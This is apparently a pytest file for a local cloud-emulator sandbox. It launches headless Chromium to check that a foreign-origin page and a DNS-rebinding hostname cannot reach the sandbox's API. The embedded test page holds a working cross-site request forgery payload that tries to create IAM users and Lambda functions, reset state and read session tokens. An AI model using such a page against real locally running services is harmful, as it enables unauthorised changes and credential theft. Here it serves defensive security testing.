"""A real browser shows a stranger's page that tries to drive the sandbox; and one that is named by DNS rebinding."""

import json
import subprocess
import threading
from collections.abc import Generator, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from expressway_sandbox import lifecycle
from expressway_sandbox.base_images.debian import find_program
from expressway_sandbox.lifecycle import SandboxInfo
from tests.sandbox_clients import client
from tests.shared import provide_programs

pytestmark = pytest.mark.sandbox

LONG = 120.0
STRANGER = "stranger.example"
QUIET = (
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-dev-shm-usage"),
    *("--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-proxy-server"),
)
FUNCTION = json.dumps(
    {"FunctionName": "evil", "Runtime": "python3.12", "Handler": "i.x", "Role": "r", "Code": {"ZipFile": "UEsFBg=="}}
)
PAGE = """<!doctype html><title>stranger</title><iframe name=frame></iframe>
<form method=post target=frame action="@api@/" enctype="application/x-www-form-urlencoded">
<input name=Action value=CreateUser><input name=UserName value=by-form><input name=Version value=2010-05-08></form>
<script>
const api = "@api@", told = {};
async function tries() {
  const text = {method: "POST", headers: {"Content-Type": "text/plain"}};
  for (const [name, path, options] of [
    ["function", "/2015-03-31/functions", {...text, mode: "no-cors", body: JSON.stringify(@function@)}],
    ["user", "/?Action=CreateUser&UserName=by-fetch&Version=2010-05-08", {...text, mode: "no-cors", body: ""}],
    ["reset", "/_ministack/reset", {...text, mode: "no-cors", body: ""}],
    ["read", "/_ministack/health", {}],
    ["image list", "/v2/_catalog", {}],
    ["credentials", "/?Action=GetSessionToken&Version=2011-06-15", {}],
    ["preflight", "/", {method: "POST", headers: {"X-Amz-Target": "AmazonEC2ContainerServiceV20141113.ListClusters",
      "Content-Type": "application/x-amz-json-1.1"}, body: "{}"}],
  ]) {
    try { const a = await fetch(api + path, options); told[name] = a.type === "opaque" ? "opaque" : await a.text(); }
    catch (error) { told[name] = "refused"; }
  }
  await new Promise(done => { const image = new Image(); image.onload = () => { told.image = "loaded"; done(); };
    image.onerror = () => { told.image = "refused"; done(); };
    image.src = api + "/?Action=CreateUser&UserName=by-image&Version=2010-05-08"; });
  await new Promise(done => { const socket = new WebSocket(api.replace("http", "ws") + "/");
    socket.onopen = () => { told.socket = "open"; done(); };
    socket.onerror = () => { told.socket = "refused"; done(); };
  });
  await new Promise(done => { frames.frame.frameElement.onload = done; document.forms[0].submit(); });
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
}
tries();
</script>"""


@dataclass
class Stranger:
    """A page on another origin of loopback, and what it told its server at the end."""

    url: str
    told: dict[str, Any] = field(default_factory=dict[str, Any])
    is_done: threading.Event = field(default_factory=threading.Event)


@contextmanager
def stranger(info: SandboxInfo) -> Generator[Stranger]:
    page = PAGE.replace("@api@", info.endpoint_url).replace("@function@", FUNCTION).encode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page)

        def do_POST(self) -> None:
            made.told.update(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()
            made.is_done.set()

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    made = Stranger(f"http://{STRANGER}:{server.server_address[1]}/")
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield made
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def chromium() -> str:
    provide_programs("chromium")
    program = find_program("chromium")
    if program is None:
        pytest.skip("no chromium; EXPRESSWAY_INSTALL=1 installs it")
    return program


@pytest.fixture
def info(tmp_path: Path) -> Iterator[SandboxInfo]:
    """A sandbox on which even functions are switched on: the gate alone keeps pages out."""
    started = lifecycle.start(state_dir=tmp_path / "sandbox", services=("lambda",))
    client(started, "iam").create_user(UserName="was-there")
    yield started
    lifecycle.stop(started.state_dir)


def browse(chromium: str, folder: Path, url: str, *more: str) -> "subprocess.Popen[str]":
    rules = f"--host-resolver-rules=MAP {STRANGER} 127.0.0.1"
    command = [chromium, *QUIET, f"--user-data-dir={folder}", rules, *more, url]
    return subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)


def test_a_strangers_page_drives_nothing_and_reads_nothing(chromium: str, info: SandboxInfo, tmp_path: Path) -> None:
    with stranger(info) as page:
        browser = browse(chromium, tmp_path / "browser", page.url, "--remote-debugging-port=0")
        try:
            assert page.is_done.wait(LONG), "the page did not come to its end"
        finally:
            browser.kill()
            browser.wait()
    opaque = {name for name, said in page.told.items() if said == "opaque"}
    assert opaque <= {"function", "user", "reset"}, "a page cannot read what it may send without asking"
    assert {name: page.told[name] for name in page.told if name not in opaque} == {
        name: "refused"
        for name in ("function", "user", "reset", "read", "image list", "credentials", "preflight", "image", "socket")
        if name not in opaque
    }
    assert client(info, "lambda").list_functions()["Functions"] == []
    assert [user["UserName"] for user in client(info, "iam").list_users()["Users"]] == ["was-there"]


@pytest.mark.parametrize(
    "path", ["/_ministack/health", "/v2/_catalog", "/?Action=CreateUser&UserName=x&Version=2010-05-08", "/health"]
)
def test_a_name_that_was_bound_to_loopback_anew_shows_nothing(
    chromium: str, info: SandboxInfo, tmp_path: Path, path: str
) -> None:
    browser = browse(chromium, tmp_path / "browser", f"http://{STRANGER}:{info.port}{path}", "--dump-dom")
    try:
        shown, _ = browser.communicate(timeout=LONG)
    finally:
        browser.kill()
        browser.wait()
    assert "answers only requests with one of these Host headers" in shown
    assert [user["UserName"] for user in client(info, "iam").list_users()["Users"]] == ["was-there"]
